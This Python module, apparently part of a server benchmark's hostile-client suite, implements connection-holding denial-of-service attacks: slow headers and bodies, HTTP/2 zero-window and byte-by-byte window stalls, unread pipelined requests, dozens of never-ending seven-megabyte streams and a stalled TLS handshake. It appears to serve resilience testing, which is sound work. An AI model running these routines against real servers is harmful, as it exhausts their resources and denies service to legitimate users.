"""Attacks that hold something open and keep us waiting: each is one connection's conversation."""

import asyncio
import ssl
from asyncio import StreamReader, StreamWriter
from collections.abc import Awaitable, Callable
from contextlib import suppress

from h2.connection import H2Connection
from h2.exceptions import ProtocolError

from bench.hostile.frames import (
    DATA,
    END_HEADERS,
    GREETING,
    PREFACE,
    WINDOW_UPDATE,
    frame,
    requests,
    settings,
)

Holds = Callable[[StreamReader, StreamWriter], Awaitable[None]]
_MEGABYTE = 1 << 20


async def _until_closed(reader: StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def zero_window(reader: StreamReader, writer: StreamWriter) -> None:
    """Ask 256 times, and let nothing of an answer come."""
    writer.write(PREFACE + settings(window=0) + requests("/", range(1, 513, 2)))
    await _until_closed(reader)


async def never_reads(_: StreamReader, writer: StreamWriter) -> None:
    """Ask on and on in HTTP/1.1 and read no answer: the stream stops taking them by itself."""
    while True:
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 100)
        await writer.drain()
        await asyncio.sleep(0.01)


async def slow_header(reader: StreamReader, writer: StreamWriter) -> None:
    """Send a header letter by letter."""
    writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
    while not reader.at_eof():
        writer.write(b"a")
        await asyncio.sleep(0.5)


async def slow_body(reader: StreamReader, writer: StreamWriter) -> None:
    """Send a body letter by letter."""
    writer.write(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n")
    while not reader.at_eof():
        writer.write(b"a")
        await asyncio.sleep(0.5)


async def slow_streams(reader: StreamReader, writer: StreamWriter) -> None:
    """Send a hundred bodies letter by letter."""
    numbers = range(1, 201, 2)
    writer.write(GREETING + requests("/", numbers, flags=END_HEADERS))
    while not reader.at_eof():
        writer.write(b"".join(frame(DATA, 0, number, b"a") for number in numbers))
        await asyncio.sleep(1)


async def seven_megabytes(reader: StreamReader, writer: StreamWriter) -> None:
    """Send seven megabytes on each of 64 streams, as the windows allow, and end none of them."""
    peer = H2Connection()
    peer.initiate_connection()
    left = dict.fromkeys(range(1, 129, 2), 7 * _MEGABYTE)
    usual = [(":method", "POST"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    for number in left:
        peer.send_headers(number, usual)
    while data := await _heard(peer, reader, writer):
        peer.receive_data(data)
        for number in left:
            left[number] -= _send(peer, number, left[number])


async def _heard(peer: H2Connection, reader: StreamReader, writer: StreamWriter) -> bytes:
    writer.write(peer.data_to_send())
    await writer.drain()
    return await reader.read(65_536)


def _send(peer: H2Connection, number: int, left: int) -> int:
    """Send as much as may be sent now; return how much that was."""
    sent = 0
    with suppress(ProtocolError):
        while size := min(peer.local_flow_control_window(number), 16_384, left - sent):
            peer.send_data(number, b"x" * size)
            sent += size
    return sent


async def idle(reader: StreamReader, _: StreamWriter) -> None:
    """Say nothing."""
    await _until_closed(reader)


async def idle_http2(reader: StreamReader, writer: StreamWriter) -> None:
    """Greet and ask nothing."""
    writer.write(GREETING)
    await _until_closed(reader)


async def small_windows(reader: StreamReader, writer: StreamWriter) -> None:
    """Ask a hundred times and take the answers byte by byte."""
    numbers = range(1, 201, 2)
    writer.write(PREFACE + settings(window=0) + requests("/", numbers))
    reading = asyncio.create_task(_until_closed(reader))
    while not reader.at_eof():
        writer.write(b"".join(frame(WINDOW_UPDATE, 0, n, (1).to_bytes(4, "big")) for n in numbers))
        await asyncio.sleep(0.01)
    await reading


def client_hello() -> bytes:
    """Return how a TLS handshake begins; nothing follows."""
    heard, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_bio(heard, said, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return said.read()
    raise AssertionError


async def stalled_handshake(reader: StreamReader, writer: StreamWriter) -> None:
    """Begin a TLS handshake and never end it."""
    writer.write(_HELLO)
    await _until_closed(reader)


async def silent_tls(reader: StreamReader, _: StreamWriter) -> None:
    """Open a connection to a TLS port and say nothing."""
    await _until_closed(reader)


_HELLO = client_hello()
